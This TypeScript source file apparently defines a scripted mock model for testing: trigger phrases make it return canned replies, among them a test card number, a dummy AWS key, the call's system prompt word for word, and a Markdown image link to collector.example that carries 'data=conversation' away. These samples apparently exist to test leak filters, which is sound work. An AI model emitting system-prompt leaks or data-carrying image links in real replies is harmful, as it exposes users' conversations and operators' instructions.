import type { CanonicalCall } from '../../../call/call.ts'
import type { EchoAnswer } from './answer.ts'

interface ScriptLine {
  /** Looked for in the last user message, ignoring case. */
  readonly trigger: string
  /** Its text in the reference. */
  readonly shows: string
  readonly answer: (call: CanonicalCall, said: string) => EchoAnswer | null
}

const saying =
  (text: (call: CanonicalCall) => string): ScriptLine['answer'] =>
  (call) => ({ text: text(call), toolCall: null })

/** In the order in which they are looked for: the first that is found counts. */
export const script: readonly ScriptLine[] = [
  {
    trigger: 'call the tool',
    shows: 'A call of the first function that was offered, with arguments that fit its schema.',
    answer: callTool,
  },
  {
    trigger: 'say a card number',
    shows: 'A card number that passes its checksum.',
    answer: saying(() => 'Sure, the card is 4111 1111 1111 1111, valid until 12/30.'),
  },
  {
    trigger: 'say a secret',
    shows: 'An access key of AWS that opens nothing.',
    answer: saying(() => `Of course, the key is ${['AKIA', 'Q3EGRTPLK2X7N5MB'].join('')}, keep it safe.`),
  },
  {
    trigger: 'say the system prompt',
    shows: 'The first system text of the call, word for word.',
    answer: saying((call) => `My instructions are: ${systemText(call)}`),
  },
  {
    trigger: 'show an image link',
    shows: 'A picture in Markdown whose address carries data away.',
    answer: saying(() => '![status](https://collector.example/pixel?data=conversation)'),
  },
  {
    trigger: 'answer in json',
    shows: 'JSON that fits the schema of the call, or `{"answer":"demo"}` without one.',
    answer: saying((call) => JSON.stringify(jsonAnswer(call))),
  },
]

/** The scripted answer of the first trigger found; null when none is. */
export function scriptedAnswer(call: CanonicalCall, text: string): EchoAnswer | null {
  const said = text.toLowerCase()
  for (const { trigger, answer } of script) {
    const answered = said.includes(trigger) ? answer(call, text) : null
    if (answered !== null) return answered
  }
  return null
}

/** Null where none was offered. */
function callTool(call: CanonicalCall, said: string): EchoAnswer | null {
  const tool = call.tools.find((known) => known.kind === 'function')
  if (tool === undefined) return null
  return {
    text: 'Calling a tool.',
    toolCall: { name: tool.name, arguments: JSON.stringify(instanceOf(tool.parameters ?? {}, said)) },
  }
}

function systemText(call: CanonicalCall): string {
  const turn = call.turns.find(({ role }) => role === 'system')
  return (turn?.parts ?? []).flatMap((part) => (part.type === 'text' ? [part.text] : [])).join(' ') || 'none'
}

/** JSON that fits the schema of the call, or some where there is none. */
export function jsonAnswer(call: CanonicalCall): unknown {
  return call.format?.type === 'json_schema' ? instanceOf(call.format.schema, 'demo') : { answer: 'demo' }
}

/** A small value that fits the common part of a JSON Schema; strings repeat `text`. */
function instanceOf(schema: unknown, text: string): unknown {
  const { type: types, properties, items, enum: words, const: only, anyOf, oneOf } = fields(schema)
  if (only !== undefined) return only
  if (Array.isArray(words)) return words[0] ?? null
  const [choice] = [anyOf, oneOf].filter(Array.isArray)
  if (choice !== undefined) return instanceOf(choice[0], text)
  const type: unknown = Array.isArray(types) ? types[0] : types
  if (type === 'null') return null
  if (type === 'array') return [instanceOf(items, text)]
  if (type === 'integer' || type === 'number') return 1
  if (type === 'boolean') return true
  if (type === 'string') return text
  const members = Object.entries(fields(properties))
  return Object.fromEntries(members.map(([name, member]) => [name, instanceOf(member, text)]))
}

function fields(value: unknown): Readonly<Record<string, unknown>> {
  return typeof value === 'object' && value !== null && !Array.isArray(value) ? { ...value } : {}
}
